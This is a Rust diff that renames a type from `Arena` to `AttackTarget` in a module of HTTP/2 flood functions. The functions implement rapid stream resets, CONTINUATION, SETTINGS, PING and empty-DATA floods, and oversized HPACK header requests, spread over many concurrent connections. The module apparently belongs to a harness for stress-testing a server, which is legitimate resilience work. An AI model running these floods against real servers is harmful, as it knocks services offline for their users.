@@ -5,7 +5,7 @@ use tokio::net::TcpStream;
 use tokio::task::JoinSet;
 use tokio::time::{Instant, timeout_at};
 
-use super::attacker::{Arena, Outcome};
+use super::attacker::{AttackTarget, Outcome};
 use super::frames::{
     Api, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, SETTINGS,
     frame, reset,
@@ -32,47 +32,47 @@ struct Flood {
     uses_streams: bool,
 }
 
-pub(super) async fn send_resets(arena: &Arena<'_>) -> Result<Outcome, Fault> {
+pub(super) async fn send_resets(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
     let repeated = |api: &Api, stream| [api.request(stream), reset(stream)].concat();
-    flood(arena, of_streams(repeated)).await
+    flood(target, of_streams(repeated)).await
 }
 
-pub(super) async fn send_continuations(arena: &Arena<'_>) -> Result<Outcome, Fault> {
+pub(super) async fn send_continuations(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
     let start = |api: &Api| frame(HEADERS, 0, 1, &api.headers);
     // A field `a: b` that HPACK does not index.
     let repeated = |_: &Api, _| frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b");
-    flood(arena, of_frames(start, repeated)).await
+    flood(target, of_frames(start, repeated)).await
 }
 
-pub(super) async fn send_settings(arena: &Arena<'_>) -> Result<Outcome, Fault> {
+pub(super) async fn send_settings(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
     let repeated = |_: &Api, _| {
         let value = DEFAULT_WINDOW.to_be_bytes();
         let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &value].concat();
         frame(SETTINGS, 0, 0, &setting)
     };
-    flood(arena, of_frames(|_| Vec::new(), repeated)).await
+    flood(target, of_frames(|_| Vec::new(), repeated)).await
 }
 
-pub(super) async fn send_pings(arena: &Arena<'_>) -> Result<Outcome, Fault> {
+pub(super) async fn send_pings(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
     let repeated = |_: &Api, _| frame(PING, 0, 0, &[0; 8]);
-    flood(arena, of_frames(|_| Vec::new(), repeated)).await
+    flood(target, of_frames(|_| Vec::new(), repeated)).await
 }
 
-pub(super) async fn send_empty_data(arena: &Arena<'_>) -> Result<Outcome, Fault> {
+pub(super) async fn send_empty_data(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
     let start = |api: &Api| frame(HEADERS, END_HEADERS, 1, &api.headers);
     let repeated = |_: &Api, _| frame(DATA, 0, 1, &[]);
-    flood(arena, of_frames(start, repeated)).await
+    flood(target, of_frames(start, repeated)).await
 }
 
 /// Sends requests whose headers repeat a long field of HPACK's dynamic table in one byte each.
-pub(super) async fn send_large_headers(arena: &Arena<'_>) -> Result<Outcome, Fault> {
+pub(super) async fn send_large_headers(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
     let repeated = |api: &Api, stream| {
         // `x-a` with a value of 3,969 bytes (127 + 2 + 30 × 128), which HPACK indexes as entry 62.
         let field = [&b"\x40\x03x-a\x7f\x82\x1e"[..], &[b'a'; 3_969]].concat();
         let headers = [&api.headers[..], &field, &[0xbe; 10_000]].concat();
         frame(HEADERS, END_HEADERS | END_STREAM, stream, &headers)
     };
-    flood(arena, of_streams(repeated)).await
+    flood(target, of_streams(repeated)).await
 }
 
 fn of_frames(start: fn(&Api) -> Vec<u8>, repeated: fn(&Api, u32) -> Vec<u8>) -> Flood {
@@ -91,10 +91,10 @@ fn of_streams(repeated: fn(&Api, u32) -> Vec<u8>) -> Flood {
     }
 }
 
-async fn flood(arena: &Arena<'_>, flood: Flood) -> Result<Outcome, Fault> {
-    let end = arena.start().await?;
+async fn flood(target: &AttackTarget<'_>, flood: Flood) -> Result<Outcome, Fault> {
+    let end = target.start().await?;
     let mut tasks = JoinSet::new();
-    for api in Api::both(arena) {
+    for api in Api::both(target) {
         for _ in 0..CONNECTIONS_PER_API {
             let api = api.clone();
             tasks.spawn(async move { flood.run_until(&api, end).await });
